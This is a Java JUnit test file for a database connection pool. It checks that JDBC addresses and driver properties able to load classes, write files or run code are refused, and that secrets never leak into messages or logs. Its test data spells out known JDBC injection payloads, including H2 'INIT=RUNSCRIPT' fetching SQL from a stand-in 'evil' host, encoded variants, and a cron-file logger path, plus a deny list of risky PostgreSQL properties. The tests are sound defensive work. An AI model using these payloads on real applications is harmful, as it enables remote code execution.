package dev.aludel.pool;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.aludel.testkit.FakeDatabase;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.sql.DriverManager;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.postgresql.PGProperty;

/// Addresses and properties as somebody writes them who means ill, or who mistypes a password. (F63)
@DisplayNameGeneration(ReplaceUnderscores.class)
class AHostileAddressTest {
    private static final String CANARY = "canary7f3a";

    @RegisterExtension
    final Logged log = new Logged();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/d?socketFactory=evil.Type",
                "jdbc:postgresql://h/d?ssl=true&SSLFACTORY=evil.Type&sslfactoryarg=x",
                "jdbc:postgresql://h/d?socket%46actory=evil.Type",
                "jdbc:postgresql://h/d?socket%2546actory=evil.Type",
                "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/etc/cron.d/evil",
                "jdbc:postgresql://h/d?connectExecutor=evil.Type",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;init = RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;\u0131NIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;\\INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;I\\N\\IT\\ =RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil.Type'",
                "jdbc:mysql://h/d?autoDeserialize=true&queryInterceptors=evil.Type",
                "jdbc:mysql://(host=h,autoDeserialize=true)/d",
                "jdbc:mysql://address=(host=h)(allowLoadLocalInfile=true)/d",
                "jdbc:mysql://h/d?authenticationWebAuthnCallbackHandler=evil.Type",
                "jdbc:mysql://h/d?loadBalanceExceptionChecker=evil.Type",
                "jdbc:h2:mem:d;DEFAULT_TABLE_ENGINE=evil.Type",
                "jdbc:mysql:loadbalance://a,b/d?ha.loadBalanceStrategy=evil.Type",
                "jdbc:mariadb://h/d?allowLocalInfile=true",
                "jdbc:sqlite:x.db?enable_load_extension=true",
                "jdbc:sqlserver://h;trustManagerClass=evil.Type"
            })
    void that_would_make_the_driver_run_code_or_touch_a_file_is_refused_with_what_to_do(String url) {
        assertThatThrownBy(() -> Pool.of(settings -> settings.url(url)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("url: ")
                .hasMessageEndingWith(" is not taken from an address or text, because it makes the driver load a class,"
                        + " touch a file or run code (the value is not shown): leave it out, or set it in code with"
                        + " driverProperty(…)")
                .hasMessageNotContaining("evil");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h:5432/d?sslmode=verify-full&sslrootcert=/x&ApplicationName=trips",
                "jdbc:postgresql://a,b/d?targetServerType=primary&sspiServiceClass=POSTGRES&options=-c%20x%3Dy",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE"
            })
    void that_means_no_harm_is_taken(String url) {
        assertThatCode(() -> Pool.of(settings -> settings.url(url)).close()).doesNotThrowAnyException();
    }

    @Test
    void of_postgresql_cannot_name_any_class_that_the_driver_would_load() {
        List<String> risky = Arrays.stream(PGProperty.values())
                .map(PGProperty::getName)
                .filter(name -> catchThrowable(() -> RiskyProperties.refuseAmong(List.of(name))) != null)
                .toList();

        assertThat(risky)
                .containsExactlyInAnyOrder(
                        "authenticationPluginClassName",
                        "classLoaderStrategy",
                        "connectExecutor",
                        "connectExecutorArg",
                        "loggerFile",
                        "loggerLevel",
                        "socketFactory",
                        "socketFactoryArg",
                        "sslfactory",
                        "sslfactoryarg",
                        "sslhostnameverifier",
                        "sslpasswordcallback",
                        "xmlFactoryFactory");
    }

    @Test
    void is_refused_as_text_too_be_it_a_property_of_hikaricp() {
        assertThatThrownBy(() -> Pool.of(Map.of(
                        "spring.datasource.hikari.jdbc-url", "jdbc:postgresql://h/d",
                        "spring.datasource.hikari.data-source-properties.socketFactory", "evil.Type")))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("driver properties: a property that ends in 'factory' is not taken")
                .hasMessageNotContaining("evil");
        assertThatThrownBy(() -> Pool.of(Map.of(
                        "spring.datasource.hikari.data-source-class-name", "org.postgresql.ds.PGSimpleDataSource",
                        "spring.datasource.hikari.data-source-properties.sslfactory", "evil.Type")))
                .hasMessageStartingWith("driver properties: a property that ends in 'factory' is not taken");
        assertThatThrownBy(() -> Pool.of(Map.of("aludel.pool.url", "jdbc:h2:mem:x;INIT=SELECT 1")))
                .hasMessageStartingWith("url: 'init' is not taken");
    }

    @Test
    void says_in_code_what_it_may_not_say_itself() throws Exception {
        FakeDatabase database = new FakeDatabase();
        DriverManager.registerDriver(database.driver());
        try (Pool pool = Pool.of(settings -> settings.url(database.url())
                .user("app")
                .driverProperty("socketFactory", "of.our.own.Type")
                .driverProperty("stringtype", "unspecified"))) {
            pool.getConnection().close();

            assertThat(database.backend(1).properties())
                    .containsEntry("socketFactory", "of.our.own.Type")
                    .containsEntry("stringtype", "unspecified")
                    .containsEntry("user", "app");
        } finally {
            DriverManager.deregisterDriver(database.driver());
        }
    }

    @Test
    void with_a_control_character_in_any_property_never_reaches_the_driver() throws Exception {
        FakeDatabase database = new FakeDatabase();
        DriverManager.registerDriver(database.driver());
        try {
            for (String control : List.of("\0", "\n", "\r", "\u001b", "\u007f", "\u0085")) {
                String bad = CANARY + control;
                for (Throwable told : List.of(
                        catchThrowable(() -> new Settings().driverProperty("stringtype", bad)),
                        catchThrowable(() -> new Settings().driverProperty(bad, "x")),
                        catchThrowable(() -> new Settings().driverProperties(Map.of("stringtype", bad))),
                        catchThrowable(() -> Pool.of(
                                settings -> settings.url("jdbc:postgresql://h/d?x=" + escaped(control) + CANARY))))) {
                    assertThat(told)
                            .isInstanceOf(IllegalArgumentException.class)
                            .hasMessageContaining("must not contain NUL or control characters")
                            .hasMessageNotContaining(CANARY);
                }
                try (Pool pool = Pool.of(
                        settings -> settings.url(database.url()).credentials(() -> new Credentials("app", bad)))) {
                    assertThatThrownBy(pool::getConnection).isInstanceOf(ConnectFailedException.class);
                }
            }
            assertThat(database.calls("connect")).isZero();
        } finally {
            DriverManager.deregisterDriver(database.driver());
        }
    }

    private static String escaped(String control) {
        return "%%%02x".formatted((int) control.charAt(0));
    }

    /// Whatever is wrong with an address, and wherever the secret stands in it: no message, log line or text shows it.
    /// A failure names its seed.
    @Test
    void never_shows_its_secret() {
        for (long seed = 0; seed < 600; seed++) {
            String url = hostile(new Random(seed));
            StringWriter shown = new StringWriter();
            try (Pool pool = Pool.of(settings ->
                    settings.url(url).timeout(Duration.ofMillis(50)).connectTimeout(Duration.ofMillis(40)))) {
                shown.append(pool.toString()).append(pool.snapshot().toString());
                Throwable told = catchThrowable(() -> pool.getConnection().close());
                if (told != null && told.getMessage() != null) {
                    shown.append(told.getMessage());
                }
                shown.append(pool.explain().text());
            } catch (RuntimeException e) {
                e.printStackTrace(new PrintWriter(shown));
            }
            assertThat(shown.toString()).as("seed " + seed).doesNotContain(CANARY);
        }
        assertThat(log.lines()).noneMatch(line -> line.contains(CANARY));
    }

    private static String hostile(Random random) {
        List<String> parts = List.of(
                "@",
                "@@",
                ":",
                "/",
                "//",
                "?",
                "&",
                ";",
                "=",
                "%",
                "%00",
                "%zz",
                "%40",
                "#",
                "'",
                "\"",
                "{",
                "(",
                ")",
                " ",
                "\0",
                "\n",
                "\u001b",
                "\u202e",
                "password=",
                "user=",
                "socketFactory=",
                "INIT=",
                "127.0.0.1:1",
                "d",
                "[::1]",
                "sslmode=",
                "…",
                "x",
                ",");
        StringBuilder url =
                new StringBuilder(List.of("jdbc:postgresql:", "jdbc:postgresql://", "jdbc:h2:mem:", "jdbc:", "")
                        .get(random.nextInt(5)));
        int secret = random.nextInt(8);
        for (int i = 0; i < 8; i++) {
            if (i == secret) {
                url.append(random.nextBoolean() ? "app:" : "password=").append(CANARY);
            }
            url.append(parts.get(random.nextInt(parts.size())));
        }
        return url.toString();
    }
}
